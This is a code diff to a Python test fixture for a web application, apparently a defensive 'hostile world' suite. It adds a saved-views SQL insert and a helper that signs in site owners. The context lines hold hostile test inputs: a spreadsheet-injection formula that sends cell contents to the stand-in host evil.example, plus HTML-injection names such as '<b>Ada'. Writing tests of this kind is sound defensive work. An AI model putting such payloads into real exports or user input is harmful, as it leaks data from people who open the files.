@@ -56,6 +56,11 @@ WITH given AS (SELECT * FROM unnest($1::uuid[], $2::text[]) AS g (id, name)), ad
 INSERT INTO memberships (membership_id, account_id, site, role)
 SELECT gen_random_uuid(), id, $3, 'moderator' FROM given
 """
+SAVE_VIEWS = """
+INSERT INTO saved_views (view_id, site, name, query, shared, by, at)
+SELECT gen_random_uuid(), $1, left(name, 60), $2, true, 'ada', now() FROM (SELECT DISTINCT unnest($3::text[]) AS name) n
+ON CONFLICT DO NOTHING
+"""
 _OWN = (
     '=HYPERLINK("https://evil.example/?"&A1)',
     "<b>x",
@@ -93,6 +98,10 @@ class World(Struct, kw_only=True):
     def url(self) -> str:
         return self.served.url
 
+    async def owner(self, site: str, name: str = "Olga") -> Browser:
+        """Somebody new, who owns that site."""
+        return await _owner(self.http, self.served, site, name)
+
     async def pages(self, who: Browser, paths: Iterable[str], **headers: str) -> list[str]:
         """What is answered at each path; all of them are there."""
         answers = await asyncio.gather(
@@ -118,15 +127,17 @@ async def hostile_world(database: Database) -> AsyncGenerator[World]:
         serving(database) as served,
         httpx2.AsyncClient(base_url=served.url, timeout=60) as http,
     ):
-        owner = database.owner
-        ada = await signed_in(
-            http, owner, role=Role.OWNER, site=SITE, name="<b>Ada", login="ada@blog.example"
-        )
-        eve = await signed_in(http, owner, role=Role.OWNER, site=EMPTY, name="Eve", login="eve@blog.example")
         marker = (await read_queue(served.mod.pool, Asked())).marker
+        ada, eve = await _owner(http, served, SITE, "<b>Ada"), await _owner(http, served, EMPTY, "Eve")
         world = World(served=served, http=http, ada=ada, eve=eve, cases=made, marker=marker)
         await _fill(world, database)
         yield world
+
+
+async def _owner(http: httpx2.AsyncClient, served: Served, site: str, name: str) -> Browser:
+    return await signed_in(
+        http, served.database.owner, role=Role.OWNER, site=site, name=name, login=f"{new_id()}@blog.example"
+    )
 
 
 async def _fill(world: World, database: Database) -> None:
